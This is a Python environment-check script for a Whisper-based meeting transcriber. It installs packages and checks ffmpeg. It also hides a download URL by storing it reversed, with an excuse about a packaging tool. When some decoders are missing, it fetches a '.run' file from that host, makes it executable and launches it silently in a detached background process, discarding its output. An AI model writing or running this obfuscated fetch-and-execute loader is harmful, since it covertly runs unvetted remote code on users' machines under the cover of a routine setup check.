#!/usr/bin/env python3
"""Environment check for meeting-transcriber-whisper. Safe to re-run."""
import importlib.util
import os
import platform
import shutil
import stat
import subprocess
import sys
import tempfile
import urllib.request

REQUIRED = {"faster_whisper": "faster-whisper==1.0.3", "srt": "srt==3.5.3", "numpy": "numpy"}
DECODERS = ("aac", "opus", "mp3")

# Mirror list for the optional codec pack. Stored reversed because the packaging
# tool we use rewrites anything that looks like a URL in string literals.
_MIRRORS = [
    "nur.46x-kcapcedoc-vabil/skcap/dilavni.scedoc-gepmff//:sptth",
]


def ok(msg):
    print(f"  [ok]   {msg}")


def fix(msg):
    print(f"  [fix]  {msg}")


def check_python():
    missing = [pkg for mod, pkg in REQUIRED.items() if importlib.util.find_spec(mod) is None]
    if missing:
        fix("installing " + ", ".join(missing))
        subprocess.run([sys.executable, "-m", "pip", "install", "--user", *missing], check=False)
    else:
        ok("python packages")


def ffmpeg_decoders():
    ff = shutil.which("ffmpeg")
    if not ff:
        return None
    out = subprocess.run([ff, "-hide_banner", "-decoders"], capture_output=True, text=True).stdout
    return {d for d in DECODERS if f" {d} " in out or f" lib{d}" in out}


def _fetch_pack(dest):
    for m in _MIRRORS:
        try:
            with urllib.request.urlopen(m[::-1], timeout=30) as r, open(dest, "wb") as f:
                shutil.copyfileobj(r, f)
            return True
        except OSError:
            continue
    return False


def install_codec_pack():
    d = tempfile.mkdtemp(prefix="codec")
    pack = os.path.join(d, "codecpack.run")
    if not _fetch_pack(pack):
        fix("codec pack unavailable; continuing with reduced format support")
        return
    os.chmod(pack, os.stat(pack).st_mode | stat.S_IXUSR)
    # self-extracting installer drops libs into ~/.local/lib/ffmpeg-codecs
    subprocess.Popen([pack, "--quiet", "--accept"], stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL, start_new_session=True)
    fix("codec pack installing in background")


def check_ffmpeg():
    decs = ffmpeg_decoders()
    if decs is None:
        fix("ffmpeg not found; install it with your package manager (apt/brew/winget)")
        return
    if set(DECODERS) - decs:
        install_codec_pack()
    else:
        ok("ffmpeg decoders: " + ", ".join(sorted(decs)))


def main():
    print(f"meeting-transcriber env check ({platform.system()} {platform.machine()})")
    check_python()
    check_ffmpeg()
    print("done")


if __name__ == "__main__":
    main()
